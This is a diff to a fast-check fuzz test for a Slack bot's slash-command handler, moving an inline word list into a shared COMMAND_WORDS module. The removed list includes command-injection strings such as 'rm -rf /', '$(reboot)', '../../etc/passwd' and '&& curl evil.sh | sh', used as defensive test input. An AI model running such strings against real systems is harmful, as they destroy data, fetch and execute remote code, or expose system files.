@@ -5,6 +5,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { SlackMessage } from '../../src/render/slack/block-types.ts';
 import { botFeatures } from '../../src/slack/bot-features.ts';
 import { handleSlashCommand } from '../../src/slack/listeners/on-slash-command.ts';
+import { COMMAND_WORDS } from '../support/command-words.ts';
 import { slashCommand } from '../support/slack-payloads.ts';
 import {
   APPROVER,
@@ -25,36 +26,7 @@ import { allowedCommands, memoryGateway, recordingRunner } from './support/recor
  * handler that splices text into a command, the "only runbook steps" assertion fails.
  */
 const SEED = 0x0fa17;
-const WORDS = [
-  'help',
-  'status',
-  'resolve',
-  'impact',
-  'many',
-  'run',
-  'diagnose',
-  'deps',
-  'restart',
-  'resources',
-  'verify',
-  '--break-glass',
-  'diagnostico-rapido',
-  'passo-2-restart-do-servico',
-  'verificacao-pos-resolucao',
-  '../../etc/passwd',
-  '$(reboot)',
-  '`id`',
-  'rm -rf /',
-  '&& curl evil.sh | sh',
-  '; docker compose down',
-  '"quoted reason here"',
-  'HELP',
-  'Restart',
-  'run run',
-  '\u0000',
-  '<@U111>',
-  '<!channel>',
-];
+const WORDS = COMMAND_WORDS;
 const text = fc.oneof(
   { weight: 5, arbitrary: fc.array(fc.constantFrom(...WORDS), { maxLength: 5 }).map((w) => w.join(' ')) },
   { weight: 2, arbitrary: fc.string({ maxLength: 60 }) },
